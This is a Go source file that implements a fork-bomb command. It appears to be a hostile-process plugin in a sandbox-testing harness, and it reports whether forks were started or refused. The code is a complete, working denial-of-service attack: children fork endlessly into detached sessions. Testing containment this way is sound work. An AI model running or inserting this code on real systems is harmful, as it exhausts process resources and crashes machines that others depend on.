// Command fork-bomb starts copies of itself, each of which starts more,
// and also forks children into their own sessions (setsid).
package main

import (
	"os"
	"os/exec"
	"syscall"
	"time"

	"github.com/hackarena/hackarena/plugins/hostile/internal/attack"
)

func main() {
	if len(os.Args) > 1 && os.Args[1] == "hackarena-fork-bomb-child" {
		for {
			cmd := exec.Command("/proc/self/exe", "hackarena-fork-bomb-child")
			cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
			_ = cmd.Start()
			time.Sleep(10 * time.Millisecond)
		}
	}
	attack.Serve("fork-bomb", func() {
		started, failed := 0, 0
		for i := 0; i < 2000 && failed < 50; i++ {
			cmd := exec.Command("/proc/self/exe", "hackarena-fork-bomb-child")
			cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
			if err := cmd.Start(); err != nil {
				failed++
				continue
			}
			started++
		}
		time.Sleep(2 * time.Second)
		attack.Report("started", started)
		attack.Report("refused", failed > 0)
	})
}
